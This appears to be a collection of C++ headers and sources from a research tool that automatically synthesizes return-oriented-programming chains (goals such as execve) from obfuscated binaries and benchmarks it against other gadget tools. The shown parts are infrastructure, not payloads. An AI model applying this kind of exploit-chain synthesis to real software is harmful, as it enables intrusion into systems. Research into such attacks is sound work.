// quadratic; candidates are first bucketed by a cheap semantic fingerprint
// (end kind, clobber/control masks, stack delta) so the solver only ever
// compares within a bucket — this is where the paper's observed ~3x pool
// reduction comes from.
#pragma once

#include "gadget/gadget.hpp"
#include "solver/solver.hpp"

namespace gp::subsume {

struct Stats {
  u64 input = 0;
  u64 kept = 0;
  u64 removed = 0;
  u64 solver_checks = 0;
  u64 structural_hits = 0;  // removed without touching the solver
  /// The solver-check budget ran out: the remainder of the pool was
  /// winnowed in structural-only mode (sound — keeping both gadgets of an
  /// unchecked pair just leaves the pool larger).
  bool budget_exhausted = false;
  /// Pairs whose solver query came back UNKNOWN (conflict budget, governed
  /// deadline, or an injected solver fault). Inconclusive means "not
  /// subsumed": both gadgets stay in the pool.
  u64 solver_unknown = 0;
  /// Ok for a full winnow; otherwise the first degradation reason
  /// (deadline, cancellation, or an exhausted global budget).
  Status status;
  double reduction_factor() const {
    return kept ? static_cast<double>(input) / static_cast<double>(kept) : 1.0;
  }

  Stats& operator+=(const Stats& o) {
    input += o.input;
    kept += o.kept;
    removed += o.removed;
    solver_checks += o.solver_checks;
    structural_hits += o.structural_hits;
    budget_exhausted |= o.budget_exhausted;
    solver_unknown += o.solver_unknown;
    status.merge(o.status);
    return *this;
  }
};

/// Returns the minimized pool. `stats` (optional) receives counters.
///
/// `threads`: 0 = the GP_THREADS env knob, 1 = the exact sequential path.
/// Parallel mode processes fingerprint buckets concurrently — each worker
/// lane owns a clone of `ctx` (identical refs, private interner) and each
/// bucket its own Solver — and splits `max_solver_checks` across lanes via
/// an atomic counter. Results are identical to the sequential run whenever
/// the budget is not exhausted; once it is, which pairs got a solver check
/// before the cutoff depends on scheduling (the surviving pool is sound
/// either way, at worst slightly larger).
///
/// `governor` (optional; must outlive the call) is polled per candidate on
/// every lane: deadline expiry or cancellation drops the stage into
/// structural-only mode (never an incorrect removal), UNKNOWN solver
/// answers keep both gadgets, and the reason lands in Stats::status.
std::vector<gadget::Record> minimize(solver::Context& ctx,
                                     std::vector<gadget::Record> pool,
                                     Stats* stats = nullptr,
                                     u64 max_solver_checks = 20'000,
                                     int threads = 0,
                                     Governor* governor = nullptr);

/// Does g1 subsume g2 (eq. 1)? Exposed for tests.
bool subsumes(solver::Context& ctx, solver::Solver& solver,
              const gadget::Record& g1, const gadget::Record& g2);

}  // namespace gp::subsume
