// The multi-tenant analysis engine: one Engine owns the process-wide
// substrate exactly once —
//
//   - the immutable gp::Config its sessions derive every knob from,
//   - the shared work-stealing ThreadPool all parallel stages fan into,
//   - the artifact-store handles (one per directory, shared by every
//     session so concurrent sessions never race the whole-file manifest),
//   - the armed deterministic fault harness (GP_FAULT).
//
// Per-image analyses are Sessions (session.hpp); corpus-scale fan-outs are
// Campaigns (campaign.hpp). Many sessions may run concurrently against one
// Engine: everything the engine hands out is either immutable (Config) or
// internally synchronized (pool, stores, fault counters). The legacy
// core::GadgetPlanner is a thin façade over Engine::shared() + Session.
#pragma once

#include <atomic>
#include <map>
#include <memory>
#include <mutex>
#include <string>

#include "store/store.hpp"
#include "support/config.hpp"
#include "support/thread_pool.hpp"

namespace gp::core {

class Engine {
 public:
  /// An engine over an explicit configuration (tests, embedders). The
  /// thread pool stays the process-wide one — worker threads are a true
  /// process singleton — but config-derived policy (budgets, store
  /// directory, retry counts) comes from `cfg`.
  explicit Engine(Config cfg);

  /// The process-wide engine on the environment configuration (the
  /// gp::config() snapshot). Almost every caller wants this one.
  static Engine& shared();

  Engine(const Engine&) = delete;
  Engine& operator=(const Engine&) = delete;

  const Config& config() const { return cfg_; }

  /// The shared pool every parallel stage (extraction shards, subsumption
  /// buckets, campaign lanes) fans into.
  ThreadPool& pool() const { return pool_; }

  /// The artifact store backing `dir`, created on first use and cached for
  /// the engine's lifetime. One instance per directory: the store's
  /// manifest is rewritten whole-file on every put, so sessions sharing a
  /// directory must share the (mutex-guarded) instance. Returns nullptr
  /// for "" (checkpointing disabled).
  std::shared_ptr<store::ArtifactStore> store(const std::string& dir);

  /// Governor options for one of `concurrent_sessions` sessions carving
  /// this engine's budget: counted budgets split evenly (never below 1),
  /// the wall-clock deadline left shared — all sessions race one clock.
  GovernorOptions session_budget(int concurrent_sessions) const;

  /// Monotonic id for each Session opened on this engine (starts at 1; 0
  /// means "no session" in trace events).
  u64 next_session_id() { return next_session_id_.fetch_add(1) + 1; }

 private:
  Config cfg_;
  ThreadPool& pool_;
  std::atomic<u64> next_session_id_{0};
  std::mutex stores_mu_;
  std::map<std::string, std::shared_ptr<store::ArtifactStore>> stores_;
};

}  // namespace gp::core
