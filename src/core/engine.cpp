#include "core/engine.hpp"

#include <algorithm>

#include "support/fault.hpp"

namespace gp::core {

Engine::Engine(Config cfg) : cfg_(std::move(cfg)), pool_(ThreadPool::shared()) {
  // Deterministic fault injection is armed once per process, before any
  // session runs a stage; a malformed GP_FAULT spec aborts here rather
  // than silently running an un-faulted experiment.
  fault::configure_from_env();
}

Engine& Engine::shared() {
  static Engine engine(gp::config());
  return engine;
}

std::shared_ptr<store::ArtifactStore> Engine::store(const std::string& dir) {
  if (dir.empty()) return nullptr;
  std::lock_guard<std::mutex> lock(stores_mu_);
  auto& slot = stores_[dir];
  if (!slot) slot = std::make_shared<store::ArtifactStore>(dir);
  return slot;
}

GovernorOptions Engine::session_budget(int concurrent_sessions) const {
  return cfg_.governor.split_across(concurrent_sessions);
}

}  // namespace gp::core
