// Public facade over the Engine/Session/Campaign core (Fig. 3).
//
// Layering (see README "Architecture"):
//   Engine   — process-wide substrate: one gp::Config snapshot, the shared
//              thread pool, artifact-store handles, the fault harness.
//   Session  — one per-image analysis: extract → subsume → find_chains as
//              explicit, lazily-run, immutable artifacts. Many sessions may
//              run concurrently against one Engine.
//   Campaign — fans (program, obfuscation, goals) jobs across sessions
//              with bounded concurrency and aggregates StageReports into a
//              machine-readable summary (BENCH_pipeline.json).
//
// Quickstart (facade):
//   auto prog = gp::minic::compile_source(source);
//   gp::obf::obfuscate(prog, gp::obf::Options::llvm_obf());
//   auto img = gp::codegen::compile(prog);
//   gp::core::GadgetPlanner planner(img);
//   auto chains = planner.find_chains(gp::payload::Goal::execve());
//
// GadgetPlanner is a thin compatibility wrapper over a Session bound to
// Engine::shared(); it eagerly runs the pool stages in its constructor the
// way the original monolithic pipeline did. New code should hold an
// explicit Session (lazy stages, multi-session concurrency) — see
// DESIGN.md for the deprecation path.
#pragma once

#include "baselines/baselines.hpp"
#include "core/campaign.hpp"
#include "core/engine.hpp"
#include "core/session.hpp"

namespace gp::core {

/// Compatibility facade: one analysis session over a binary image with the
/// historical eager semantics — construction runs extraction and
/// subsumption; find_chains() runs the planner per goal. Wraps a Session
/// on Engine::shared().
class GadgetPlanner {
 public:
  explicit GadgetPlanner(const image::Image& img,
                         const PipelineOptions& opts = {})
      : session_(Engine::shared(), img, opts) {
    session_.prepare();
  }

  const gadget::Library& library() const { return session_.library(); }
  solver::Context& ctx() { return session_.ctx(); }
  const image::Image& img() const { return session_.img(); }

  std::vector<payload::Chain> find_chains(const payload::Goal& goal) {
    return session_.find_chains(goal);
  }

  const StageReport& report() const { return session_.report(); }
  const planner::Stats& planner_stats() const {
    return session_.planner_stats();
  }
  const gadget::ExtractStats& extract_stats() const {
    return session_.extract_stats();
  }
  const subsume::Stats& subsume_stats() const {
    return session_.subsume_stats();
  }
  /// The pipeline's governor (never null). Cancel it from another thread
  /// to stop the pipeline cooperatively at the next poll point.
  Governor& governor() { return session_.governor(); }

  /// The artifact store backing checkpoint/resume, or nullptr when
  /// disabled (opts.store_dir empty).
  store::ArtifactStore* store() { return session_.store(); }

  /// The wrapped Session, for code migrating off the facade.
  Session& session() { return session_; }

 private:
  Session session_;
};

/// Campaign: run every tool on one image (the unit of Tables IV/VI).
struct ToolOutcome {
  std::string tool;
  u64 gadgets_total = 0;
  u64 gadgets_used = 0;
  std::vector<int> chains_per_goal;  // indexed like payload::Goal::all()
  int total_chains() const {
    int n = 0;
    for (const int c : chains_per_goal) n += c;
    return n;
  }
};

struct CampaignResult {
  std::string program;
  std::string obfuscation;
  size_t code_bytes = 0;
  std::vector<ToolOutcome> tools;  // ROPGadget, Angrop, SGC, Gadget-Planner
  StageReport gp_stages;
  // Chain-shape metrics for Gadget-Planner (Table V).
  double gp_avg_gadget_len = 0;
  double gp_avg_chain_len = 0;
  int gp_ret = 0, gp_ij = 0, gp_dj = 0, gp_cj = 0;
};

struct CampaignOptions {
  bool run_rop_gadget = true;
  bool run_angrop = true;
  bool run_sgc = true;
  bool run_gadget_planner = true;
  PipelineOptions pipeline;
  int sgc_max_chains = 4;
};

/// Compile `source` under `obf_opts` and run the selected tools on it.
CampaignResult run_campaign(const std::string& program_name,
                            const std::string& source,
                            const obf::Options& obf_opts,
                            const CampaignOptions& opts = {});

}  // namespace gp::core
