// Public facade: the four-stage Gadget-Planner pipeline (Fig. 3) and the
// campaign runner the benchmarks are built on.
//
// Quickstart:
//   auto prog = gp::minic::compile_source(source);
//   gp::obf::obfuscate(prog, gp::obf::Options::llvm_obf());
//   auto img = gp::codegen::compile(prog);
//   gp::core::GadgetPlanner planner(img);
//   auto chains = planner.find_chains(gp::payload::Goal::execve());
#pragma once

#include <memory>

#include "baselines/baselines.hpp"
#include "gadget/gadget.hpp"
#include "obfuscate/obfuscate.hpp"
#include "payload/payload.hpp"
#include "planner/planner.hpp"
#include "subsume/subsume.hpp"

namespace gp::core {

struct PipelineOptions {
  gadget::ExtractOptions extract;
  bool run_subsumption = true;  // ablation hook (DESIGN.md #1)
  planner::Options plan;
  /// Resource limits for the whole pipeline. The GadgetPlanner owns one
  /// Governor built from these and threads it through every stage
  /// (extraction, subsumption, planning, concretization); by default they
  /// are read from the environment (GP_DEADLINE_MS, GP_SOLVER_CHECKS,
  /// GP_SYM_STEPS, GP_EXPR_NODES), all unlimited when unset.
  GovernorOptions governor = GovernorOptions::from_env();
};

/// Wall-clock and size accounting per pipeline stage (Table VII).
struct StageReport {
  double extract_seconds = 0;
  double subsume_seconds = 0;
  double plan_seconds = 0;
  u64 pool_raw = 0;        // gadgets out of extraction
  u64 pool_minimized = 0;  // gadgets after subsumption
  u64 rss_mb_after_extract = 0;
  u64 rss_mb_after_subsume = 0;
  u64 rss_mb_after_plan = 0;
  /// Degradation accounting: Ok for a clean run of the stage, otherwise
  /// the first reason (deadline, cancellation, budget, injected fault)
  /// that stage ran degraded. A degraded stage still yields usable —
  /// merely smaller — results; nothing here is an error.
  Status extract_status;
  Status subsume_status;
  Status plan_status;
};

/// Resident set size of this process in MiB (0 when /proc is unavailable).
u64 current_rss_mb();

/// One analysis session over a binary image. Construction runs extraction
/// and subsumption; find_chains() runs the planner per goal.
class GadgetPlanner {
 public:
  explicit GadgetPlanner(const image::Image& img,
                         const PipelineOptions& opts = {});

  const gadget::Library& library() const { return *lib_; }
  solver::Context& ctx() { return *ctx_; }
  const image::Image& img() const { return img_; }

  std::vector<payload::Chain> find_chains(const payload::Goal& goal);

  const StageReport& report() const { return report_; }
  const planner::Stats& planner_stats() const { return planner_stats_; }
  const gadget::ExtractStats& extract_stats() const { return extract_stats_; }
  const subsume::Stats& subsume_stats() const { return subsume_stats_; }
  /// The pipeline's governor (never null). Cancel it from another thread
  /// to stop the pipeline cooperatively at the next poll point.
  Governor& governor() { return *gov_; }

 private:
  const image::Image& img_;
  PipelineOptions opts_;
  std::unique_ptr<Governor> gov_;
  std::unique_ptr<solver::Context> ctx_;
  std::unique_ptr<gadget::Library> lib_;
  StageReport report_;
  planner::Stats planner_stats_;
  gadget::ExtractStats extract_stats_;
  subsume::Stats subsume_stats_;
};

/// Campaign: run every tool on one image (the unit of Tables IV/VI).
struct ToolOutcome {
  std::string tool;
  u64 gadgets_total = 0;
  u64 gadgets_used = 0;
  std::vector<int> chains_per_goal;  // indexed like payload::Goal::all()
  int total_chains() const {
    int n = 0;
    for (const int c : chains_per_goal) n += c;
    return n;
  }
};

struct CampaignResult {
  std::string program;
  std::string obfuscation;
  size_t code_bytes = 0;
  std::vector<ToolOutcome> tools;  // ROPGadget, Angrop, SGC, Gadget-Planner
  StageReport gp_stages;
  // Chain-shape metrics for Gadget-Planner (Table V).
  double gp_avg_gadget_len = 0;
  double gp_avg_chain_len = 0;
  int gp_ret = 0, gp_ij = 0, gp_dj = 0, gp_cj = 0;
};

struct CampaignOptions {
  bool run_rop_gadget = true;
  bool run_angrop = true;
  bool run_sgc = true;
  bool run_gadget_planner = true;
  PipelineOptions pipeline;
  int sgc_max_chains = 4;
};

/// Compile `source` under `obf_opts` and run the selected tools on it.
CampaignResult run_campaign(const std::string& program_name,
                            const std::string& source,
                            const obf::Options& obf_opts,
                            const CampaignOptions& opts = {});

}  // namespace gp::core
