// Public facade: the four-stage Gadget-Planner pipeline (Fig. 3) and the
// campaign runner the benchmarks are built on.
//
// Quickstart:
//   auto prog = gp::minic::compile_source(source);
//   gp::obf::obfuscate(prog, gp::obf::Options::llvm_obf());
//   auto img = gp::codegen::compile(prog);
//   gp::core::GadgetPlanner planner(img);
//   auto chains = planner.find_chains(gp::payload::Goal::execve());
#pragma once

#include <functional>
#include <memory>

#include "baselines/baselines.hpp"
#include "gadget/gadget.hpp"
#include "obfuscate/obfuscate.hpp"
#include "payload/payload.hpp"
#include "planner/planner.hpp"
#include "store/store.hpp"
#include "subsume/subsume.hpp"

namespace gp::core {

/// Retry policy for the stage supervisor: a stage that fails for a
/// *recoverable* reason (exhausted counted budget, injected fault, internal
/// error) is re-run up to max_retries more times, each retry after an
/// exponentially longer backoff and with every counted budget widened by
/// budget_widen_factor. Deadline expiry and cancellation are never retried
/// — wall-clock budgets and the caller's cancel are hard contracts.
struct SupervisorOptions {
  int max_retries = 2;             // extra attempts after the first
  double backoff_initial_ms = 25;  // sleep before the first retry
  double backoff_multiplier = 4;   // backoff growth per retry
  double budget_widen_factor = 4;  // counted-budget growth per retry

  /// GP_RETRIES overrides max_retries (>= 0; unset/unparsable keeps the
  /// default).
  static SupervisorOptions from_env();
};

/// GP_STORE_DIR, or "" when unset (checkpointing disabled).
std::string store_dir_from_env();

struct PipelineOptions {
  gadget::ExtractOptions extract;
  bool run_subsumption = true;  // ablation hook (DESIGN.md #1)
  planner::Options plan;
  /// Resource limits for the whole pipeline. The GadgetPlanner owns one
  /// Governor built from these and threads it through every stage
  /// (extraction, subsumption, planning, concretization); by default they
  /// are read from the environment (GP_DEADLINE_MS, GP_SOLVER_CHECKS,
  /// GP_SYM_STEPS, GP_EXPR_NODES), all unlimited when unset.
  GovernorOptions governor = GovernorOptions::from_env();
  /// Stage-supervisor retry policy (GP_RETRIES).
  SupervisorOptions supervise = SupervisorOptions::from_env();
  /// Artifact-store directory for durable checkpoint/resume; "" disables.
  /// Defaults to the GP_STORE_DIR env knob. Stage outputs (extracted pool,
  /// minimized pool, chains per goal) are checkpointed under content-hash
  /// keys of (image bytes, stage options, format version), so a later run
  /// — same process or a fresh one after a crash/OOM-kill — resumes from
  /// the last good checkpoint instead of recomputing solver work.
  std::string store_dir = store_dir_from_env();
};

/// Attempt/resume/cache accounting for one supervised pipeline stage.
struct StageRuns {
  u32 attempts = 0;    // stage-body executions in this process
  u32 retries = 0;     // attempts the supervisor re-ran after a failure
  u32 cache_hits = 0;  // outputs served from a checkpoint this process wrote
  u32 resumes = 0;     // outputs served from an earlier process's checkpoint
};

/// Wall-clock and size accounting per pipeline stage (Table VII).
struct StageReport {
  double extract_seconds = 0;
  double subsume_seconds = 0;
  double plan_seconds = 0;
  u64 pool_raw = 0;        // gadgets out of extraction
  u64 pool_minimized = 0;  // gadgets after subsumption
  u64 rss_mb_after_extract = 0;
  u64 rss_mb_after_subsume = 0;
  u64 rss_mb_after_plan = 0;
  /// Degradation accounting: Ok for a clean run of the stage, otherwise
  /// the first reason (deadline, cancellation, budget, injected fault)
  /// that stage ran degraded. A degraded stage still yields usable —
  /// merely smaller — results; nothing here is an error.
  Status extract_status;
  Status subsume_status;
  Status plan_status;
  /// Supervisor accounting: how many times each stage actually ran, how
  /// many of those were retries, and how often a checkpoint substituted
  /// for the run entirely (cache_hits within this process, resumes across
  /// processes).
  StageRuns extract_runs;
  StageRuns subsume_runs;
  StageRuns plan_runs;
  /// Artifact-store counters (all zero when checkpointing is disabled).
  store::Stats store;
};

/// Resident set size of this process in MiB (0 when /proc is unavailable).
u64 current_rss_mb();

/// One analysis session over a binary image. Construction runs extraction
/// and subsumption; find_chains() runs the planner per goal.
class GadgetPlanner {
 public:
  explicit GadgetPlanner(const image::Image& img,
                         const PipelineOptions& opts = {});

  const gadget::Library& library() const { return *lib_; }
  solver::Context& ctx() { return *ctx_; }
  const image::Image& img() const { return img_; }

  std::vector<payload::Chain> find_chains(const payload::Goal& goal);

  const StageReport& report() const { return report_; }
  const planner::Stats& planner_stats() const { return planner_stats_; }
  const gadget::ExtractStats& extract_stats() const { return extract_stats_; }
  const subsume::Stats& subsume_stats() const { return subsume_stats_; }
  /// The pipeline's governor (never null). Cancel it from another thread
  /// to stop the pipeline cooperatively at the next poll point.
  Governor& governor() { return *gov_; }

  /// The artifact store backing checkpoint/resume, or nullptr when
  /// disabled (opts.store_dir empty).
  store::ArtifactStore* store() { return store_.get(); }

 private:
  /// Run `body` as a restartable unit: attempt 0 under the pipeline
  /// governor; on a recoverable failure (budget exhaustion, injected
  /// fault, internal error — never deadline expiry or cancellation),
  /// retry after exponential backoff under a fresh governor with widened
  /// counted budgets, up to opts_.supervise.max_retries extra attempts.
  /// `body` receives the governor for that attempt and returns the stage
  /// Status; throws from the final attempt propagate.
  Status run_supervised(const char* stage, StageRuns& runs,
                        const std::function<Status(Governor&)>& body);

  /// Key material shared by every stage: the image content (entry, code,
  /// data) and the store format version.
  void append_image_key(serial::Writer& w) const;

  /// Re-intern `pool` from its serialized form into a fresh context so the
  /// next stage sees state that depends only on pool content — the same
  /// state a resumed run reconstructs from a checkpoint.
  void canonicalize_pool(std::vector<gadget::Record>& pool);

  const image::Image& img_;
  PipelineOptions opts_;
  std::unique_ptr<Governor> gov_;
  std::unique_ptr<solver::Context> ctx_;
  std::unique_ptr<gadget::Library> lib_;
  std::unique_ptr<store::ArtifactStore> store_;
  /// Governors built for retries; kept alive for the session because
  /// stage stats may reference them.
  std::vector<std::unique_ptr<Governor>> retry_govs_;
  StageReport report_;
  planner::Stats planner_stats_;
  gadget::ExtractStats extract_stats_;
  subsume::Stats subsume_stats_;
};

/// Campaign: run every tool on one image (the unit of Tables IV/VI).
struct ToolOutcome {
  std::string tool;
  u64 gadgets_total = 0;
  u64 gadgets_used = 0;
  std::vector<int> chains_per_goal;  // indexed like payload::Goal::all()
  int total_chains() const {
    int n = 0;
    for (const int c : chains_per_goal) n += c;
    return n;
  }
};

struct CampaignResult {
  std::string program;
  std::string obfuscation;
  size_t code_bytes = 0;
  std::vector<ToolOutcome> tools;  // ROPGadget, Angrop, SGC, Gadget-Planner
  StageReport gp_stages;
  // Chain-shape metrics for Gadget-Planner (Table V).
  double gp_avg_gadget_len = 0;
  double gp_avg_chain_len = 0;
  int gp_ret = 0, gp_ij = 0, gp_dj = 0, gp_cj = 0;
};

struct CampaignOptions {
  bool run_rop_gadget = true;
  bool run_angrop = true;
  bool run_sgc = true;
  bool run_gadget_planner = true;
  PipelineOptions pipeline;
  int sgc_max_chains = 4;
};

/// Compile `source` under `obf_opts` and run the selected tools on it.
CampaignResult run_campaign(const std::string& program_name,
                            const std::string& source,
                            const obf::Options& obf_opts,
                            const CampaignOptions& opts = {});

}  // namespace gp::core
