// Campaign: fan a corpus of (program, obfuscation-config, goals) jobs
// across Sessions with bounded concurrency — the batch shape of the
// paper's whole evaluation (Figs. 1/5, Tables IV–VII) and of the bench/
// drivers, which hand-rolled exactly this loop before.
//
// Jobs are compiled sequentially (mini-C compilation is milliseconds;
// analysis is the expensive, parallel-safe part), then analyzed by up to
// `concurrency` concurrent Sessions on one Engine, each running under a
// per-session governor carved from the campaign budget
// (GovernorOptions::split_across). Results land in job order regardless of
// lane scheduling, and each job carries a content digest over its chains
// so "concurrency does not change results" is a one-line diff
// (scripts/tier1.sh asserts it).
//
// Summary::to_json() emits the machine-readable BENCH_pipeline.json schema
// (per-stage seconds, pool sizes, chain counts, statuses) that tracks the
// perf trajectory across PRs.
#pragma once

#include <functional>

#include "core/session.hpp"
#include "obfuscate/obfuscate.hpp"

namespace gp::core {

/// Named obfuscation profile: "none", the five single passes
/// ("substitution", "bogus-cf", "flatten", "encode-data", "virtualize"),
/// or the composite "llvm-obf" / "tigress" stacks. Throws gp::Error on an
/// unknown name.
obf::Options profile_by_name(const std::string& name, u64 seed = 7);

/// One unit of campaign work: obfuscate + compile one program, analyze it,
/// plan every goal.
struct Job {
  std::string program;      // corpus name (used as the label too)
  std::string source;       // mini-C source; "" = corpus::by_name(program)
  std::string obfuscation;  // profile label for reports ("" = obf.name())
  obf::Options obf;
  /// Codegen optimization level, 0..2; -1 resolves to GP_OPT_LEVEL (the
  /// Config::from_env value) at compile time. Out-of-range values reject
  /// with the valid grammar before any job runs.
  int opt_level = -1;
  std::vector<payload::Goal> goals = payload::Goal::all();
};

struct JobResult {
  std::string program;
  std::string obfuscation;
  int opt_level = 0;  // resolved level the job compiled at
  size_t code_bytes = 0;

  StageReport stages;
  gadget::ExtractStats extract_stats;
  subsume::Stats subsume_stats;
  planner::Stats planner_stats;

  std::vector<std::string> goal_names;              // indexed like job.goals
  std::vector<int> chains_per_goal;                 // indexed like job.goals
  std::vector<std::vector<payload::Chain>> chains;  // per goal, plan order
  int total_chains() const {
    int n = 0;
    for (const int c : chains_per_goal) n += c;
    return n;
  }

  /// Worst stage status: Ok for a clean run, a degradation code
  /// (deadline/budget/fault/cancel) for a degraded-but-usable run,
  /// Internal only when a stage kept failing through every retry.
  Status status;
  double seconds = 0;  // job wall clock (compile excluded)
  /// Job start/finish as offsets from the campaign clock — the timeline
  /// the critical-path analysis works on.
  double start_seconds = 0;
  double end_seconds = 0;

  /// fnv1a over the serialized chains of every goal: two runs produced
  /// identical results iff their digests match, regardless of timing
  /// noise. The campaign determinism drill compares exactly this.
  u64 result_digest = 0;
};

class Campaign {
 public:
  struct Options {
    /// Sessions in flight at once (>= 1). Lanes run on the engine's shared
    /// pool; nested stage parallelism inside each session still works (the
    /// pool is reentrant).
    int concurrency = 1;
    /// Per-session template. Campaign replaces pipeline.governor with a
    /// per-session share of it (split_across(concurrency)) unless
    /// split_budget is false.
    PipelineOptions pipeline;
    /// Carve each concurrent session's counted budgets from the single
    /// campaign-level budget instead of handing every session the full
    /// one. The wall-clock deadline is always shared.
    bool split_budget = true;
    /// Optional per-job hook, run on the campaign lane after the job's
    /// goals are planned and with the Session still alive — benches use it
    /// to drive baseline tools against the same library/context. Invoked
    /// concurrently when concurrency > 1; the callback synchronizes its
    /// own state.
    std::function<void(const Job&, Session&, JobResult&)> on_job;
  };

  struct Summary {
    std::vector<JobResult> results;  // job order, independent of scheduling
    int jobs_ok = 0;        // every stage Ok
    int jobs_degraded = 0;  // budget/deadline/fault-cut but usable
    int jobs_failed = 0;    // Internal status (should not happen)
    double wall_seconds = 0;
    int concurrency = 1;
    int pool_threads = 0;  // engine pool workers + the caller lane
    /// Aggregate metrics-registry snapshot (metrics::Registry::to_json)
    /// taken when the campaign finished; "" when metrics were disabled.
    std::string metrics_json;

    /// The stage that bounded campaign wall time: the longest stage of the
    /// job that finished last. With every lane racing one clock, shaving
    /// anything else cannot move wall_seconds.
    struct CriticalPath {
      int job = -1;  // index into results; -1 for an empty campaign
      std::string program;
      std::string obfuscation;
      std::string stage;  // "extract" | "subsume" | "plan"
      double stage_seconds = 0;
      double end_seconds = 0;  // when that job finished, campaign clock
    };
    CriticalPath critical_path() const;

    /// The BENCH_pipeline.json schema (gp-campaign-v1): one object with
    /// campaign totals, an aggregate "metrics" block, a "critical_path"
    /// block, and a per-job array of stage seconds, pool sizes, chain
    /// counts, per-goal chain maps, statuses and result digests.
    std::string to_json() const;
  };

  explicit Campaign(Engine& engine) : Campaign(engine, Options{}) {}
  Campaign(Engine& engine, Options opts);

  /// Run every job; blocks until all complete. Degradation is data
  /// (JobResult::status), never an exception.
  Summary run(const std::vector<Job>& jobs);

  /// The full corpus × the named obfuscation profiles × the requested
  /// opt levels — the paper's evaluation grid plus the optimization fan
  /// axis. Profiles default to Table IV's rows (none, llvm-obf, tigress);
  /// an empty opt_levels means one job per (program, profile) at the
  /// GP_OPT_LEVEL default.
  static std::vector<Job> corpus_jobs(
      const std::vector<std::string>& profiles = {"none", "llvm-obf",
                                                  "tigress"},
      int seed = 7, const std::vector<int>& opt_levels = {});

 private:
  Engine& engine_;
  Options opts_;
};

}  // namespace gp::core
