#include "core/core.hpp"

#include <chrono>
#include <fstream>

#include "codegen/codegen.hpp"
#include "minic/minic.hpp"
#include "support/fault.hpp"

namespace gp::core {

using Clock = std::chrono::steady_clock;

namespace {
double secs_since(Clock::time_point t0) {
  return std::chrono::duration<double>(Clock::now() - t0).count();
}
}  // namespace

u64 current_rss_mb() {
  std::ifstream status("/proc/self/status");
  std::string line;
  while (std::getline(status, line)) {
    if (line.rfind("VmRSS:", 0) == 0) {
      u64 kb = 0;
      for (const char c : line)
        if (c >= '0' && c <= '9') kb = kb * 10 + (c - '0');
      return kb / 1024;
    }
  }
  return 0;
}

GadgetPlanner::GadgetPlanner(const image::Image& img,
                             const PipelineOptions& opts)
    : img_(img),
      opts_(opts),
      gov_(std::make_unique<Governor>(opts.governor)),
      ctx_(std::make_unique<solver::Context>()) {
  // Deterministic fault injection (GP_FAULT) is armed once per process; a
  // malformed spec aborts here — before any stage — rather than silently
  // running an un-faulted experiment.
  fault::configure_from_env();
  ctx_->set_governor(gov_.get());

  auto t0 = Clock::now();
  gadget::Extractor extractor(*ctx_, img_);
  gadget::ExtractOptions eopts = opts_.extract;
  if (!eopts.governor) eopts.governor = gov_.get();
  auto pool = extractor.extract(eopts);
  extract_stats_ = extractor.stats();
  report_.extract_seconds = secs_since(t0);
  report_.pool_raw = pool.size();
  report_.rss_mb_after_extract = current_rss_mb();
  report_.extract_status = extract_stats_.status;

  auto t1 = Clock::now();
  if (opts_.run_subsumption) {
    pool = subsume::minimize(*ctx_, std::move(pool), &subsume_stats_,
                             /*max_solver_checks=*/20'000, /*threads=*/0,
                             gov_.get());
  }
  report_.subsume_seconds = secs_since(t1);
  report_.pool_minimized = pool.size();
  report_.rss_mb_after_subsume = current_rss_mb();
  report_.subsume_status = subsume_stats_.status;

  lib_ = std::make_unique<gadget::Library>(std::move(pool));
}

std::vector<payload::Chain> GadgetPlanner::find_chains(
    const payload::Goal& goal) {
  auto t0 = Clock::now();
  planner::Planner planner(*ctx_, *lib_, img_);
  planner::Options popts = opts_.plan;
  if (!popts.governor) popts.governor = gov_.get();
  auto chains = planner.plan(goal, popts);
  report_.plan_seconds += secs_since(t0);
  report_.rss_mb_after_plan = current_rss_mb();
  const auto& s = planner.stats();
  planner_stats_.expansions += s.expansions;
  planner_stats_.successors += s.successors;
  planner_stats_.dead_ends += s.dead_ends;
  planner_stats_.linearizations += s.linearizations;
  planner_stats_.concretize_calls += s.concretize_calls;
  planner_stats_.validated += s.validated;
  planner_stats_.deadline_cuts += s.deadline_cuts;
  planner_stats_.status.merge(s.status);
  report_.plan_status = planner_stats_.status;
  return chains;
}

CampaignResult run_campaign(const std::string& program_name,
                            const std::string& source,
                            const obf::Options& obf_opts,
                            const CampaignOptions& opts) {
  CampaignResult result;
  result.program = program_name;
  result.obfuscation = obf_opts.name();

  auto prog = minic::compile_source(source);
  obf::obfuscate(prog, obf_opts);
  const image::Image img = codegen::compile(prog);
  result.code_bytes = img.code().size();

  const auto& goals = payload::Goal::all();

  if (opts.run_rop_gadget) {
    ToolOutcome tool;
    tool.tool = "ROPGadget";
    for (const auto& goal : goals) {
      auto r = baselines::rop_gadget(img, goal);
      tool.gadgets_total = r.gadgets_total;
      tool.gadgets_used += r.gadgets_used;
      tool.chains_per_goal.push_back(static_cast<int>(r.chains.size()));
    }
    result.tools.push_back(std::move(tool));
  }

  // The three semantic tools share one extracted library.
  if (opts.run_angrop || opts.run_sgc || opts.run_gadget_planner) {
    GadgetPlanner gp(img, opts.pipeline);
    result.gp_stages = gp.report();

    if (opts.run_angrop) {
      ToolOutcome tool;
      tool.tool = "Angrop";
      for (const auto& goal : goals) {
        auto r = baselines::angrop(gp.ctx(), gp.library(), img, goal);
        tool.gadgets_total = r.gadgets_total;
        tool.gadgets_used += r.gadgets_used;
        tool.chains_per_goal.push_back(static_cast<int>(r.chains.size()));
      }
      result.tools.push_back(std::move(tool));
    }

    if (opts.run_sgc) {
      ToolOutcome tool;
      tool.tool = "SGC";
      for (const auto& goal : goals) {
        auto r = baselines::sgc(gp.ctx(), gp.library(), img, goal,
                                opts.sgc_max_chains);
        tool.gadgets_total = r.gadgets_total;
        tool.gadgets_used += r.gadgets_used;
        tool.chains_per_goal.push_back(static_cast<int>(r.chains.size()));
      }
      result.tools.push_back(std::move(tool));
    }

    if (opts.run_gadget_planner) {
      ToolOutcome tool;
      tool.tool = "Gadget-Planner";
      tool.gadgets_total = gp.library().size();
      int chains_total = 0;
      int insts_total = 0;
      for (const auto& goal : goals) {
        auto chains = gp.find_chains(goal);
        tool.chains_per_goal.push_back(static_cast<int>(chains.size()));
        for (const auto& c : chains) {
          tool.gadgets_used += c.gadgets.size();
          ++chains_total;
          insts_total += c.total_insts;
          result.gp_ret += c.ret_gadgets;
          result.gp_ij += c.ij_gadgets;
          result.gp_dj += c.dj_gadgets;
          result.gp_cj += c.cj_gadgets;
          result.gp_avg_gadget_len += c.avg_gadget_len();
        }
      }
      if (chains_total > 0) {
        result.gp_avg_gadget_len /= chains_total;
        result.gp_avg_chain_len =
